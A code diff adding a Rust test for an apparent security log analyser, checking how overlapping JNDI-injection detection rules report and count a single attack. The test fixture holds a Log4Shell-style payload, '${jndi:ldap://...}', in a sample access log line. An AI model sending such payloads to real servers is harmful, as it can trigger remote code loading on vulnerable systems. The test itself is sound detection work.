@@ -108,3 +108,30 @@ fn lines_from_standard_input_raise_the_alerts_they_raise_together() {
     assert_eq!(brute["key"], "source.ip=198.51.100.20");
     assert_eq!(brute["count"], 5, "attempts, not lines: {brute}");
 }
+
+#[test]
+fn a_rule_covered_by_another_says_which_counts_the_line() {
+    let out = soc_explain(
+        &[
+            r#"203.0.113.5 - - [10/Mar/2025:10:00:00 +0000] "GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 200 10 "-" "curl/8""#,
+        ],
+        None,
+    );
+    assert!(
+        out.contains(
+            "selected:  soc/http-exploit-jndi-injection counts it under source.ip=203.0.113.5"
+        ),
+        "{out}"
+    );
+    assert!(
+        out.contains("selected:  sigma/web_jndi_lookup_in_request but does not count it: soc/http-exploit-jndi-injection detects the same and counts it"),
+        "{out}"
+    );
+    // Together the lines raise one alert for the one attack.
+    let jndi: Vec<&str> = out
+        .lines()
+        .skip_while(|l| !l.starts_with("alerts from these lines"))
+        .filter(|l| l.contains("jndi"))
+        .collect();
+    assert_eq!(jndi.len(), 1, "{out}");
+}
